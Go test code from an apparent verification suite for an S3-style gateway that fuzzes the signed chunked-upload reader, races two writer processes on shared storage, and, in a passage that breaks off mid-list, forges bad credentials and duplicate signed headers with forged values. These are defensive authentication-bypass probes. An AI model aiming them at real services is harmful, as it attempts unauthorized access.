			dumpState(v.Index(i), b, depth+1)
		}
		b.WriteString("]")
	case reflect.Map:
		keys := v.MapKeys()
		sort.Slice(keys, func(i, j int) bool { return fmt.Sprint(keys[i]) < fmt.Sprint(keys[j]) })
		for _, k := range keys {
			fmt.Fprintf(b, "%v:", k)
			dumpState(v.MapIndex(k), b, depth+1)
		}
	case reflect.String:
		b.WriteString("s:" + v.String() + ";")
	case reflect.Bool:
		fmt.Fprintf(b, "%v;", v.Bool())
	case reflect.Int, reflect.Int8, reflect.Int16, reflect.Int32, reflect.Int64:
		fmt.Fprintf(b, "%d;", v.Int())
	case reflect.Uint, reflect.Uint8, reflect.Uint16, reflect.Uint32, reflect.Uint64, reflect.Uintptr:
		fmt.Fprintf(b, "%d;", v.Uint())
	case reflect.Func, reflect.Chan, reflect.UnsafePointer:
		b.WriteString("<opaque>;")
	default:
		fmt.Fprintf(b, "?%s;", v.Kind())
	}
}

// access makes an unexported field's value interface-able.
func access(v reflect.Value) reflect.Value {
	if v.CanInterface() {
		return v
	}
	if v.CanAddr() {
		return reflect.NewAt(v.Type(), unsafe.Pointer(v.UnsafeAddr())).Elem()
	}
	return v
}

func readerState(r io.Reader) string {
	var b bytes.Buffer
	v := reflect.ValueOf(r)
	if v.Kind() == reflect.Ptr {
		// make fields addressable
		dumpState(v.Elem(), &b, 0)
	} else {
		dumpState(v, &b, 0)
	}
	h := sha256.Sum256(b.Bytes())
	return hex.EncodeToString(h[:12])
}

// c12Stream is one valid encoded stream.
type c12Stream struct {
	Name    string
	Mode    string // signed | signed-trailer | unsigned-trailer
	Algo    string
	Payload []byte
	Enc     []byte
	Spans   []gw.ChunkSpan
	Signed  gw.Signed
	// Secret the readers are built with ("" = c12Secret)
	Secret string
}

const c12Secret = "c12secretc12secretc12"

func (s *c12Stream) newReader(src io.Reader) (io.Reader, error) {
	ad := utils.AuthData{Algorithm: "AWS4-HMAC-SHA256", Access: "c12", Region: gw.Region, Signature: s.Signed.Signature, Date: s.Signed.Time.Format("20060102")}
	secret := c12Secret
	if s.Secret != "" {
		secret = s.Secret
	}
	switch s.Mode {
	case "signed":
		return utils.NewSignedChunkReader(src, ad, gw.Region, secret, s.Signed.Time, "", false)
	case "signed-trailer":
		return newSignedTrailer(src, ad, s)
	default:
		return newUnsigned(src, s)
	}
}

func c12Streams(thorough bool) []*c12Stream {
	t := time.Date(2026, 9, 28, 12, 0, 0, 0, time.UTC)
	seed := gw.Signed{Time: t, Region: gw.Region, Signature: strings.Repeat("ab", 32), Key: gw.SigningKey(c12Secret, gw.Region, t), Scope: t.Format("20060102") + "/" + gw.Region + "/s3/aws4_request"}
	var out []*c12Stream
	type split struct {
		n     int
		sizes []int
		pad   bool
	}
	splits := []split{{0, nil, false}, {1, []int{1}, false}, {2, []int{1, 1}, false}, {3, []int{3}, false}, {3, []int{1, 2}, false}, {5, []int{2, 3}, false}, {6, []int{1, 2, 3}, false}, {4, []int{2, 2}, false}, {6, []int{2, 2, 2}, false}}
	splits = append(splits, split{3, []int{1, 2}, true}, split{0, nil, true})
	algos := []string{"crc32", "sha256"}
	if thorough {
		splits = append(splits, split{12, []int{5, 1, 6}, false}, split{9, []int{9}, false}, split{17, []int{16, 1}, false}, split{4, []int{4}, false}, split{8, []int{2, 2, 2, 2}, false}, split{5, []int{2, 3}, true})
		algos = gw.ChecksumAlgos
	}
	defer func() { gw.SizeDigits = 1 }()
	for _, sp := range splits {
		payload := Pattern(sp.n, 5)
		chunks := gw.SplitChunks(payload, sp.sizes)
		// two of the splits are also encoded with zero-padded chunk sizes ("03", "00"), which is where a size token has a
		// byte that can be replaced by a sign or a blank without changing its value
		pad := ""
		gw.SizeDigits = 1
		if sp.pad {
			pad = "-padded"
			gw.SizeDigits = 2
		}
		enc, spans := gw.EncodeSigned(seed, chunks, "")
		out = append(out, &c12Stream{Name: fmt.Sprintf("signed%s%v", pad, sp.sizes), Mode: "signed", Payload: payload, Enc: enc, Spans: spans, Signed: seed})
		for _, a := range algos {
			enc, spans := gw.EncodeSigned(seed, chunks, a)
			out = append(out, &c12Stream{Name: fmt.Sprintf("signed-trailer%s-%s%v", pad, a, sp.sizes), Mode: "signed-trailer", Algo: a, Payload: payload, Enc: enc, Spans: spans, Signed: seed})
			enc2, spans2 := gw.EncodeUnsigned(chunks, a)
			out = append(out, &c12Stream{Name: fmt.Sprintf("unsigned-trailer%s-%s%v", pad, a, sp.sizes), Mode: "unsigned-trailer", Algo: a, Payload: payload, Enc: enc2, Spans: spans2, Signed: seed})
		}
	}
	return out
}

// boundaries of the encoded stream (structural positions) for jump sizes
func (s *c12Stream) boundaries() []int {
	set := map[int]bool{len(s.Enc): true}
	for _, sp := range s.Spans {
		for _, p := range []int{sp.HeaderStart, sp.DataStart, sp.DataEnd, sp.DataEnd + 2} {
			set[p] = true
		}
	}
	var out []int
	for p := range set {
		out = append(out, p)
	}
	sort.Ints(out)
	return out
}

type c12Step struct {
	D   int  // destination buffer size
	N   int  // bytes the source hands out
	EOF bool // source delivers io.EOF together with its final bytes
}

type c12Run struct {
	out       []byte
	err       error
	done      bool
	anomaly   string
	state     string
	srcOff    int
	zeroReads int
}

// replay runs the step sequence on a fresh reader.
func (s *c12Stream) replay(steps []c12Step, enc []byte) c12Run {
	src := &fragSource{data: enc}
	for _, st := range steps {
		src.plan = append(src.plan, st.N)
	}
	rd, err := s.newReader(src)
	if err != nil {
		return c12Run{err: err, done: true, anomaly: "constructor-error"}
	}
	var res c12Run
	// one destination buffer for all reads (as io.Copy uses it); what a read delivered is taken out and the
	// whole buffer is overwritten before the next read: a reader must not keep references into it
	shared := make([]byte, 65536)
	for i, st := range steps {
		src.eofWith = st.EOF
		hi := st.D
		if i > 0 && steps[i-1].D > hi {
			hi = steps[i-1].D
		}
		for j := range shared[:hi] {
			shared[j] = 0xEE
		}
		buf := shared[:st.D]
		n, err := rd.Read(buf)
		if n < 0 || n > len(buf) {
			res.anomaly = "read-count-out-of-range"
			res.done = true
			return res
		}
		res.out = append(res.out, buf[:n]...)
		if err != nil {
			res.err = err
			res.done = true
			if i != len(steps)-1 {
				res.anomaly = "" // finished early: fine, caller sees done
			}
			break
		}
	}
	res.srcOff = src.off
	if !res.done {
		res.state = fmt.Sprintf("%d|%d|%s", src.off, len(res.out), readerState(rd))
	}
	return res
}

func C12(r *ck.Run) {
	r.Rule("for every valid stream of the menu (payload lengths × chunk splits × signed / signed+trailer / unsigned+trailer × checksum algorithms): breadth-first search over the REAL reader object where one transition is one Read(p) with len(p) from a menu and the source handing out any admissible number of bytes (EOF together with the final bytes or in a read of its own), states deduplicated on (source offset, bytes delivered, reflective dump of every reader field incl. hash states) until closure; plus every truncation point, an unterminated header of 1000-5000 bytes in place of every chunk header, and every single-byte substitution (10 representatives per offset, among them sign and blank characters; two splits are also encoded with zero-padded chunk sizes) of each stream under whole / 1-byte / 7-byte fragmentation; the destination buffer is one reused, overwritten buffer; plus every interleaving of the Read calls of two readers of two uploads (destination smaller than the chunks); plus readers built in turn with two secrets of one access key (each verifies with its own); distinct = distinct state, mutated stream or reader pair")
	r.Assume("the reader is a deterministic function of its construction arguments and the (len(p), bytes, error) answers of its source")
	streams := c12Streams(r.Thorough())
	dests := []int{1, 2, 3, 7, 16, 64, 4096, 32768}
	if os.Getenv("C12_BIG_DEST_ONLY") != "" {
		dests = []int{4096, 32768}
	}
	r.Sharded(16, func() {
		for si, s := range streams {
			if !r.Mine(si) {
				continue
			}
			c12Closure(r, s, dests)
			c12Mutations(r, s)
		}
		if !r.IsWorker() || r.ShardI == 0 {
			c12Pairs(r, streams)
			c12SecretChange(r)
		}
	})
}

// c12SecretChange: the chunk signatures are verified with the secret the reader is built with, whatever readers of
// the same access key were built with before in this process: after uploads with secret S1, a stream signed with
// S2 decodes on a reader built with S2, and a stream signed with S1 is refused by it (and the other way round).
func c12SecretChange(r *ck.Run) {
	t := time.Date(2026, 9, 28, 12, 0, 0, 0, time.UTC)
	payload := Pattern(6, 5)
	chunks := gw.SplitChunks(payload, []int{2, 4})
	secrets := []string{c12Secret, "another-secret-of-the-same-access-key"}
	mk := func(signSecret, readSecret string) *c12Stream {
		seed := gw.Signed{Time: t, Region: gw.Region, Signature: strings.Repeat("cd", 32), Key: gw.SigningKey(signSecret, gw.Region, t), Scope: t.Format("20060102") + "/" + gw.Region + "/s3/aws4_request"}
		enc, spans := gw.EncodeSigned(seed, chunks, "")
		return &c12Stream{Name: "secret-change", Mode: "signed", Payload: payload, Enc: enc, Spans: spans, Signed: seed, Secret: readSecret}
	}
	// every order of the four (signed with, read with) combinations, three rounds
	combos := [][2]int{{0, 0}, {1, 1}, {0, 1}, {1, 0}}
	for round := 0; round < 3; round++ {
		for ci, c := range combos {
			s := mk(secrets[c[0]], secrets[c[1]])
			out, err := s.decodeAll(s.Enc, 0, 4096, false)
			r.Add("evaluations", 1)
			r.Distinct(fmt.Sprintf("secret-change|%d|%d", round, ci))
			same := c[0] == c[1]
			switch {
			case same && (err != io.EOF || !bytes.Equal(out, payload)):
				r.Violation(ck.JoinSig("secret-change", "valid-stream-of-the-current-secret-refused-after-readers-of-another-secret"), map[string]any{"round": round, "signed_with": c[0], "reader_built_with": c[1], "error": fmt.Sprint(err)})
			case !same && err == io.EOF:
				r.Violation(ck.JoinSig("secret-change", "stream-signed-with-another-secret-accepted"), map[string]any{"round": round, "signed_with": c[0], "reader_built_with": c[1]})
			}
		}
	}
}

// c12Pairs: two readers of two uploads in flight in one process. Every interleaving of their Read calls (whole
// source, destination smaller than the chunks so that both keep undelivered bytes between calls) must deliver
// both payloads: nothing a reader keeps between calls may be shared with another reader.
func c12Pairs(r *ck.Run, streams []*c12Stream) {
	var pick []*c12Stream
	for _, s := range streams {
		if len(s.Payload) >= 5 && len(s.Payload) <= 6 && (s.Algo == "" || s.Algo == "crc32") {
			pick = append(pick, s)
		}
	}
	readsOf := func(s *c12Stream, d int) int {
		out, err := s.decodeAll(s.Enc, 0, d, false)
		_ = out
		_ = err
		n := 0
		src := &fragSource{data: s.Enc}
		rd, e := s.newReader(src)
		if e != nil {
			return 0
		}
		buf := make([]byte, d)
		for n < 200 {
			_, err := rd.Read(buf)
			n++
			if err != nil {
				break
			}
		}
		return n
	}
	for ai, a := range pick {
		for bi, b := range pick {
			if bi < ai {
				continue
			}
			for _, d := range []int{1, 2} {
				na, nb := readsOf(a, d), readsOf(b, d)
				if na == 0 || nb == 0 || na+nb > 16 {
					continue
				}
				// enumerate every interleaving as a bit string with na zeros and nb ones
				var rec func(order []int, ca, cb int)
				rec = func(order []int, ca, cb int) {
					if ca == na && cb == nb {
						srcs := [2]*fragSource{{data: a.Enc}, {data: b.Enc}}
						ra, e1 := a.newReader(srcs[0])
						rb, e2 := b.newReader(srcs[1])
						if e1 != nil || e2 != nil {
							return
						}
						rds := [2]io.Reader{ra, rb}
						var outs [2][]byte
						var errs [2]error
						bufs := [2][]byte{make([]byte, d), make([]byte, d)}
						for _, w := range order {
							if errs[w] != nil {
								continue
							}
							n, err := rds[w].Read(bufs[w])
							outs[w] = append(outs[w], bufs[w][:n]...)
							errs[w] = err
							for j := range bufs[w] {
								bufs[w][j] = 0xEE
							}
						}
						r.Add("evaluations", 1)
						r.Add("pair_interleavings", 1)
						okA := bytes.Equal(outs[0], a.Payload) && errs[0] == io.EOF
						okB := bytes.Equal(outs[1], b.Payload) && errs[1] == io.EOF
						if !okA || !okB {
							r.Violation(ck.JoinSig("two-readers", a.Mode+"+"+b.Mode, "payload-of-one-upload-disturbed-by-another"), map[string]any{"stream_a": a.Name, "stream_b": b.Name, "dest": d, "order": fmt.Sprint(order),
								"got_a": fmt.Sprintf("%q err=%v", outs[0], errs[0]), "want_a": string(a.Payload), "got_b": fmt.Sprintf("%q err=%v", outs[1], errs[1]), "want_b": string(b.Payload)})
						}
						return
					}
					if ca < na {
						rec(append(order, 0), ca+1, cb)
					}
					if cb < nb {
						rec(append(order, 1), ca, cb+1)
					}
				}
				rec(nil, 0, 0)
				r.Distinct(fmt.Sprintf("pair|%s|%s|%d", a.Name, b.Name, d))
			}
		}
	}
}

func c12Closure(r *ck.Run, s *c12Stream, dests []int) {
	bounds := s.boundaries()
	type node struct {
		steps []c12Step
		idle  int // consecutive reads that neither delivered bytes nor consumed source bytes
	}
	seen := map[string]bool{}
	init := s.replay(nil, s.Enc)
	seen[init.state] = true
	frontier := []node{{nil, 0}}
	states, transitions := 1, 0
	maxStates := 60000
	report := func(kind string, steps []c12Step, run c12Run) {
		r.Violation(ck.JoinSig("fragmentation", s.Mode, kind), map[string]any{"stream": s.Name, "encoded_hex": hex.EncodeToString(s.Enc), "payload_hex": hex.EncodeToString(s.Payload),
			"steps(D=len(p),N=source bytes)": fmt.Sprint(steps), "decoded_hex": hex.EncodeToString(run.out), "error": fmt.Sprint(run.err)})
	}
	for len(frontier) > 0 {
		nd := frontier[0]
		frontier = frontier[1:]
		cur := s.replay(nd.steps, s.Enc)
		rem := len(s.Enc) - cur.srcOff
		for _, d := range dests {
			// admissible source answers
			ns := map[int]bool{}
			// what the source hands out does not depend on len(p): the readers read their source through buffers of
			// their own (bufio), so every answer size is admissible for every destination size (a source asked for
			// fewer bytes than planned hands out what it was asked for)
			lim := rem
			if lim == 0 {
				ns[0] = true // source is at EOF: answers (0, EOF)
			}
			for n := 1; n <= lim && n <= 16; n++ {
				ns[n] = true
			}
			if lim > 16 {
				ns[lim] = true
				for _, b := range bounds {
					for _, dl := range []int{-1, 0, 1} {
						n := b + dl - cur.srcOff
						if n >= 1 && n <= lim {
							ns[n] = true
						}
					}
				}
			}
			for n := range ns {
				for _, eof := range []bool{false, true} {
					if eof && n != rem {
						continue
					}
					steps := append(append([]c12Step{}, nd.steps...), c12Step{D: d, N: n, EOF: eof})
					run := s.replay(steps, s.Enc)
					transitions++
					// oracle on every transition: output is a prefix of the payload
					if !bytes.HasPrefix(s.Payload, run.out) {
						report("wrong-bytes-delivered", steps, run)
						continue
					}
					if run.anomaly != "" {
						report(run.anomaly, steps, run)
						continue
					}
					if run.done {
						if run.err == io.EOF {
							if !bytes.Equal(run.out, s.Payload) {
								report("clean-EOF-with-short-payload", steps, run)
							}
							r.Outcome("closure:EOF-ok")
						} else {
							report("valid-stream-rejected:"+errClass(fmt.Sprint(run.err)), steps, run)
						}
						continue
					}
					idle := 0
					if len(run.out) == len(cur.out) && run.srcOff == cur.srcOff {
						idle = nd.idle + 1
						if idle >= 3 {
							// the source is exhausted (or unread) and the reader neither finishes nor fails nor delivers: a consumer would spin forever
							report("no-progress", steps, run)
							continue
						}
					}
					key := run.state + fmt.Sprintf("|idle%d", idle)
					if !seen[key] {
						seen[key] = true
						states++
						if states > maxStates {
							r.Cap("state cap in closure of " + s.Name)
							frontier = nil
							break
						}
						frontier = append(frontier, node{steps, idle})
					}
				}
			}
		}
	}
	r.Add("states", int64(states))
	r.Add("transitions", int64(transitions))
	r.Add("evaluations", int64(transitions))
	r.Add("traces_validated_against_impl", int64(transitions))
	for k := range seen {
		r.Distinct(s.Name + "|" + k)
	}
	if s.Name == "signed[1 2]" {
		r.Sample(map[string]any{"stream": s.Name, "encoded": string(s.Enc), "states": states, "transitions": transitions})
	}
}

// stuck: the last three steps were all (0,EOF) answers without the reader finishing.
func (s *c12Stream) stuck(steps []c12Step) bool {
	if len(steps) < 3 {
		return false
	}
	for _, st := range steps[len(steps)-3:] {
		if st.N != 0 {
			return false
		}
	}
	return true
}

// decodeAll reads a (possibly mutated) stream to the end under one fragmentation.
func (s *c12Stream) decodeAll(enc []byte, frag int, dest int, eofWith bool) ([]byte, error) {
	src := &fragSource{data: enc, eofWith: eofWith}
	if frag > 0 {
		for i := 0; i < len(enc)/frag+2; i++ {
			src.plan = append(src.plan, frag)
		}
	}
	rd, err := s.newReader(src)
	if err != nil {
		return nil, err
	}
	var out []byte
	buf := make([]byte, dest)
	for i := 0; i < 4*len(enc)+64; i++ {
		n, err := rd.Read(buf)
		out = append(out, buf[:n]...)
		if err != nil {
			return out, err
		}
		for j := range buf {
			buf[j] = 0xEE // the caller reuses its buffer
		}
	}
	return out, fmt.Errorf("verif: reader made no progress (%d reads)", 4*len(enc)+64)
}

func (s *c12Stream) fieldAt(off int) string {
	for i, sp := range s.Spans {
		switch {
		case off >= sp.HeaderStart && off < sp.DataStart:
			h := string(s.Enc[sp.HeaderStart:sp.DataStart])
			rel := off - sp.HeaderStart
			if j := strings.Index(h, ";chunk-signature="); j >= 0 {
				switch {
				case rel < j:
					return "chunk-size"
				case rel < j+len(";chunk-signature="):
					return "header-literal"
				case rel < len(h)-2:
					return "chunk-signature"
				}
				return "header-crlf"
			}
			if rel < len(h)-2 {
				return "chunk-size"
			}
			return "header-crlf"
		case off >= sp.DataStart && off < sp.DataEnd:
			return "chunk-data"
		case off >= sp.DataEnd && off < sp.DataEnd+2 && i < len(s.Spans):
			if sp.DataEnd == sp.DataStart && i == len(s.Spans)-1 && s.Mode != "signed" {
				break
			}
			return "data-crlf"
		}
	}
	// tail of the stream: final chunk line (unsigned), trailer lines, terminating CRLFs
	tailStart := 0
	if len(s.Spans) > 0 {
		last := s.Spans[len(s.Spans)-1]
		tailStart = last.DataEnd
	}
	tail := string(s.Enc[tailStart:])
	rel := off - tailStart
	if rel < 0 || rel >= len(tail) {
		return "trailer"
	}
	if tail[rel] == '\r' || tail[rel] == '\n' {
		return "tail-crlf"
	}
	// which line of the tail?
	lineStart := strings.LastIndex(tail[:rel], "\n") + 1
	lineEnd := strings.Index(tail[rel:], "\r")
	line := tail[lineStart:]
	if lineEnd >= 0 {
		line = tail[lineStart : rel+lineEnd]
	}
	col := rel - lineStart
	if i := strings.Index(line, ":"); i >= 0 {
		name := line[:i]
		switch {
		case col < i:
			return "trailer-name(" + strings.TrimPrefix(strings.TrimPrefix(name, "x-amz-"), "checksum-") + ")"
		case col == i:
			return "trailer-colon"
		case strings.HasPrefix(name, "x-amz-trailer-signature"):
			return "trailer-signature-value"
		}
		return "trailer-checksum-value"
	}
	return "final-chunk-size"
}

func c12Mutations(r *ck.Run, s *c12Stream) {
	frags := []struct{ frag, dest int }{{0, 32768}, {1, 32768}, {7, 64}, {0, 5}, {3, 1}}
	try := func(kind, field string, enc []byte, what map[string]any) {
		for _, f := range frags {
			for _, eofWith := range []bool{true, false} {
				out, err := s.decodeAll(enc, f.frag, f.dest, eofWith)
				r.Add("evaluations", 1)
				r.Add("mutated_stream_runs", 1)
				if err == io.EOF {
					r.Outcome("mutation:accepted")
					an := "accepted-with-original-payload"
					if !bytes.Equal(out, s.Payload) {
						an = "accepted-with-different-payload"
					}
					eofk := "eof-separate"
					if eofWith {
						eofk = "eof-with-data"
					}
					det := map[string]any{"stream": s.Name, "mutated_hex": hex.EncodeToString(enc), "payload_hex": hex.EncodeToString(s.Payload), "decoded_hex": hex.EncodeToString(out),
						"fragment_size": f.frag, "dest_buffer": f.dest, "eof_with_data": eofWith}
					for k, v := range what {
						det[k] = v
					}
					r.Violation(ck.JoinSig(kind, s.Mode, field, an, eofk), det)
				} else {
					r.Outcome("mutation:rejected")
				}
			}
		}
	}
	// truncations: every proper prefix
	for cut := 0; cut < len(s.Enc); cut++ {
		field := s.fieldAt(cut)
		r.Distinct(fmt.Sprintf("%s|trunc|%d", s.Name, cut))
		try("truncation", "cut-before-"+field, s.Enc[:cut], map[string]any{"cut_at": cut})
	}
	// extra bytes after the end
	for _, extra := range []string{"x", "\r\n", "0\r\n\r\n"} {
		r.Distinct(fmt.Sprintf("%s|extra|%q", s.Name, extra))
		try("extra-bytes", "after-end", append(append([]byte{}, s.Enc...), extra...), map[string]any{"extra": extra})
	}
	// a chunk header that never completes: the stream continues, where a header is due, with bytes that hold no
	// header delimiter (up to and beyond the reader's header size limit)
	for i, sp := range s.Spans {
		for _, n := range []int{1000, 1024, 1025, 1100, 5000} {
			m := append(append([]byte{}, s.Enc[:sp.HeaderStart]...), bytes.Repeat([]byte("7"), n)...)
			cls := "within-header-limit"
			if n > 1024 {
				cls = "beyond-header-limit"
			}
			r.Distinct(fmt.Sprintf("%s|junk-header|%d|%d", s.Name, i, n))
			try("unterminated-chunk-header", cls, m, map[string]any{"chunk": i, "junk_bytes": n})
		}
	}
	// single-byte substitutions
	for off := 0; off < len(s.Enc); off++ {
		orig := s.Enc[off]
		for _, nb := range []byte{orig ^ 1, orig ^ 0x20, '0', 'f', '\n', 0, '+', '-', ' ', '\t'} {
			if nb == orig {
				continue
			}
			m := append([]byte{}, s.Enc...)
			m[off] = nb
			field := s.fieldAt(off)
			// substitutions that keep the meaning of the stream (hex digit case in a size, …) are not corruptions
			if field == "chunk-size" && strings.EqualFold(string(m[off]), string(orig)) {
				continue
			}
			r.Distinct(fmt.Sprintf("%s|subst|%d|%d", s.Name, off, nb))
			try("substitution", field, m, map[string]any{"offset": off, "from": orig, "to": nb})
		}
	}
}
