package checks

import (
	"bufio"
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"

	"verif/ck"
	"verif/sched"
)

func init() { Registry["C05PROC"] = c05ProcChild }

// Two gateway PROCESSES on one storage. The in-process twins of the other C05 scenarios share one file-descriptor
// table, pid and address space, so anything that is unique only within a process (a descriptor number, a counter,
// a pid-less temp name) looks unique to them. Here each writer is a real child process (the same instrumented
// binary): writer 1 is paused before its i-th file-system step, for every i, writer 2 — an identical fresh process,
// hence with identical descriptor numbers and counters — runs a whole PUT, writer 1 resumes. One preemption,
// every position, real processes.

// c05ProcChild: VERIF_C05P_DIR storage, _KEY key, _VAL value id, _PAUSE step to pause before (-1: never), _CFG "notmp"/"".
// Protocol on stdout: "PAUSED" when parked (continues after a line on stdin), finally "DONE <steps> <error or ->".
func c05ProcChild(r *ck.Run) {
	dir := os.Getenv("VERIF_C05P_DIR")
	key := os.Getenv("VERIF_C05P_KEY")
	val, _ := strconv.Atoi(os.Getenv("VERIF_C05P_VAL"))
	pause, _ := strconv.Atoi(os.Getenv("VERIF_C05P_PAUSE"))
	cfg := pxCfg{NoTmp: os.Getenv("VERIF_C05P_CFG") == "notmp"}
	st := newPxStoreAt(dir, cfg)
	in := bufio.NewReader(os.Stdin)
	var s sched.Sched
	var perr error
	x := s.Run([]func(){func() { perr = st.put(st.A, c05Bucket, key, mkval(val)) }}, sched.RunOpts{KillThread: -1,
		Choose: func(step int, p *sched.PointRec, enabled []string) int {
			if step == pause {
				fmt.Println("PAUSED")
				os.Stdout.Sync()
				in.ReadString('\n')
			}
			return 0
		}})
	e := "-"
	if perr != nil {
		e = strings.ReplaceAll(perr.Error(), "\n", " ")
	}
	fmt.Printf("DONE %d %s\n", len(x.Points), e)
	os.Stdout.Sync()
	os.Exit(0)
}

type c05Child struct {
	cmd *exec.Cmd
	in  interface{ Write([]byte) (int, error) }
	out *bufio.Reader
}

func startC05Child(dir, key string, val, pause int, cfg pxCfg) *c05Child {
	exe, err := os.Executable()
	if err != nil {
		exe = os.Args[0]
	}
	cmd := exec.Command(exe, "-prop", "C05PROC")
	c := ""
	if cfg.NoTmp {
		c = "notmp"
	}
	cmd.Env = append(os.Environ(), "VERIF_C05P_DIR="+dir, "VERIF_C05P_KEY="+key, fmt.Sprint("VERIF_C05P_VAL=", val), fmt.Sprint("VERIF_C05P_PAUSE=", pause), "VERIF_C05P_CFG="+c, "VERIF_SHARD=", "VERIF_PARTIAL=")
	in, _ := cmd.StdinPipe()
	out, _ := cmd.StdoutPipe()
	if err := cmd.Start(); err != nil {
		ck.Fatal("start writer process: %v", err)
	}
	return &c05Child{cmd: cmd, in: in, out: bufio.NewReader(out)}
}

// next returns the next protocol line ("PAUSED" or "DONE ..."); other output is skipped.
func (c *c05Child) next() string {
	for {
		l, err := c.out.ReadString('\n')
		l = strings.TrimSpace(l)
		if l == "PAUSED" || strings.HasPrefix(l, "DONE ") {
			return l
		}
		if err != nil {
			return "EOF"
		}
	}
}

func c05CrossProcess(r *ck.Run) {
	if r.IsWorker() && r.ShardI != 0 {
		return
	}
	cfgs := []pxCfg{{}, {NoTmp: true}}
	vals := []wval{mkval(1), mkval(2)}
	for _, cfg := range cfgs {
		for _, scn := range []struct{ Name, K1, K2 string }{{"two writers, same key", "k", "k"}, {"two writers, different keys", "k1", "k2"}, {"two writers, keys in one new directory", "d/k1", "d/k2"}} {
			st := newPxStore("c05p", cfg)
			steps := -1
			for pause := 0; steps < 0 || pause < steps; pause++ {
				st.wipe()
				st.mkBucket(c05Bucket)
				// a first upload by another process: the bucket's temp directory exists, as in a gateway that has been running
				w0 := startC05Child(st.Dir, "warm", 0, -1, cfg)
				if l := w0.next(); !strings.HasPrefix(l, "DONE") || !strings.HasSuffix(l, " -") {
					ck.Fatal("warm-up writer: %s", l)
				}
				w0.cmd.Wait()
				c1 := startC05Child(st.Dir, scn.K1, 1, pause, cfg)
				l1 := c1.next()
				c2 := startC05Child(st.Dir, scn.K2, 2, -1, cfg)
				l2 := c2.next()
				c2.cmd.Wait()
				if l1 == "PAUSED" {
					c1.in.Write([]byte("go\n"))
					l1 = c1.next()
				}
				c1.cmd.Wait()
				r.Add("evaluations", 1)
				r.Add("process_pairs", 1)
				r.Distinct(fmt.Sprintf("xproc|%s|%s|%d", cfg, scn.Name, pause))
				f := strings.Fields(l1)
				if len(f) >= 2 && f[0] == "DONE" {
					steps, _ = strconv.Atoi(f[1])
				} else {
					ck.Fatal("writer 1 ended with %q", l1)
				}
				var an []string
				errOf := func(l string) string {
					f := strings.SplitN(l, " ", 3)
					if len(f) == 3 && f[2] != "-" {
						return f[2]
					}
					return ""
				}
				e1, e2 := errOf(l1), errOf(l2)
				if e1 != "" || e2 != "" {
					an = append(an, "upload-failed:"+errClass(e1+e2))
				}
				// read back through a third process (this one)
				if scn.K1 == scn.K2 {
					o := st.get(st.A, c05Bucket, scn.K1, vals)
					if o.Err != "" || o.Absent || o.Body < 0 || o.ETag != o.Body || o.Meta != o.Body || o.CT != o.Body {
						an = append(an, "object-is-not-one-whole-acknowledged-upload")
					}
				} else {
					for i, k := range []string{scn.K1, scn.K2} {
						ei := []string{e1, e2}[i]
						o := st.get(st.A, c05Bucket, k, vals)
						if ei == "" && (o.Err != "" || o.Absent || o.Body != i+1 || o.ETag != i+1 || o.Meta != i+1 || o.CT != i+1) {
							an = append(an, "acknowledged-upload-reads-back-as-something-else")
						}
					}
				}
				r.Outcome(fmt.Sprintf("xproc:%s:%d", scn.Name, len(an)))
				if len(an) > 0 {
					r.Violation(ck.JoinSig(storeClass(cfg), "cross-process", scn.Name, strings.Join(dedup(an), "+")), map[string]any{"config": cfg.String(), "scenario": scn.Name,
						"writer1_paused_before_step": pause, "writer1": l1, "writer2": l2, "read_back_k1": st.get(st.A, c05Bucket, scn.K1, vals).Raw, "read_back_k2": st.get(st.A, c05Bucket, scn.K2, vals).Raw})
				}
			}
			st.Close()
		}
	}
}
