package checks

import (
	"bytes"
	"fmt"
	"strings"
	"time"

	"verif/ck"
	"verif/gw"
)

func init() { Registry["C02"] = C02 }

// credDefect turns a valid unsigned request into one WITHOUT a correct SigV4 proof.
type credDefect struct {
	Name  string
	Apply func(r *gw.Req, payloadHash string) gw.Signed
}

func setAuth(r *gw.Req, f func(string) string) {
	r.Set("Authorization", f(r.Get("Authorization")))
}

func flipHex(s string) string {
	if s == "" {
		return s
	}
	b := []byte(s)
	i := len(b) - 1
	if b[i] == '0' {
		b[i] = '1'
	} else {
		b[i] = '0'
	}
	return string(b)
}

// dupSignedHeader signs the request validly as root and then adds a second line with a forged value for one
// signed x-amz header: the request's own first x-amz-* header other than date / content hash / framing ones
// (copy source, tagging, acl, metadata ...), or an injected x-amz-meta-dup when it has none.
func dupSignedHeader(r *gw.Req, ph string, before bool) gw.Signed {
	name := ""
	for _, h := range r.Headers {
		l := strings.ToLower(h[0])
		if strings.HasPrefix(l, "x-amz-") && l != "x-amz-date" && l != "x-amz-content-sha256" && l != "x-amz-decoded-content-length" && l != "x-amz-trailer" {
			name = h[0]
			break
		}
	}
	if name == "" {
		name = "x-amz-meta-dup"
		r.Headers = append(r.Headers, [2]string{name, "original"})
	}
	sg := gw.Sign(r, gw.Root, gw.SignOpts{PayloadHash: ph})
	var out [][2]string
	for _, h := range r.Headers {
		if h[0] == name && before {
			out = append(out, [2]string{name, "forged-" + h[1]})
		}
		out = append(out, h)
		if h[0] == name && !before {
			out = append(out, [2]string{name, "forged-" + h[1]})
		}
	}
	r.Headers = out
	return sg
}

func credDefects() []credDefect {
	bad := gw.Creds{Access: cUsr1.Access, Secret: "not-the-secret-of-usr1"}
	badRoot := gw.Creds{Access: gw.RootAccess, Secret: "wrong-root-secret"}
	unknown := gw.Creds{Access: "nosuchuser", Secret: "whatever-secret-value"}
	sign := func(r *gw.Req, c gw.Creds, ph string, o gw.SignOpts) gw.Signed {
		o.PayloadHash = ph
		return gw.Sign(r, c, o)
	}
	return []credDefect{
		{"no-authorization", func(r *gw.Req, ph string) gw.Signed {
			sg := sign(r, gw.Root, ph, gw.SignOpts{})
			r.Del("Authorization")
			return sg
		}},
		{"anonymous-bare", func(r *gw.Req, ph string) gw.Signed {
			return gw.Signed{Time: time.Now().UTC(), Key: make([]byte, 32), Scope: "none"}
		}},
		{"malformed-algorithm-only", func(r *gw.Req, ph string) gw.Signed {
			sg := sign(r, gw.Root, ph, gw.SignOpts{})
			r.Set("Authorization", "AWS4-HMAC-SHA256")
			return sg
		}},
		{"malformed-missing-signedheaders", func(r *gw.Req, ph string) gw.Signed {
			sg := sign(r, gw.Root, ph, gw.SignOpts{})
			setAuth(r, func(a string) string {
				i := strings.Index(a, ",SignedHeaders=")
				j := strings.Index(a, ",Signature=")
				return a[:i] + a[j:]
			})
			return sg
		}},
		{"malformed-bad-algorithm", func(r *gw.Req, ph string) gw.Signed {
